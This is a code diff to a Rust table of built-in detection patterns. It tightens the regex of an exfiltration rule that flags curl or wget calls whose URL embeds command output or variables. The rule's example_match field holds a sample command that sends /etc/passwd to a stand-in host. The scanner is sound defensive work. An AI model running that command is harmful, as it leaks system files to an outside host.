@@ -390,7 +390,7 @@ pub(super) const BUILTIN: &[BuiltinPattern] = &[
         id: "exf.url-substitution",
         pattern_type: PatternType::Exfiltration,
         severity: Severity::Warning,
-        pattern: r"\b(?:curl|wget)\b[^\n;|]*https?://[^\s'\x22]*(?:\$\(|`|\$\{?[A-Za-z_])",
+        pattern: r"\b(?:curl|wget)\b[^\n;|]*https?://[^\s'\x22`]*(?:\$\(|`[^`\s]+`|\$\{?[A-Za-z_])",
         flags: "",
         description: "A URL built from command output or variables.",
         example_match: "curl http://x.example/?k=$(cat /etc/passwd)",
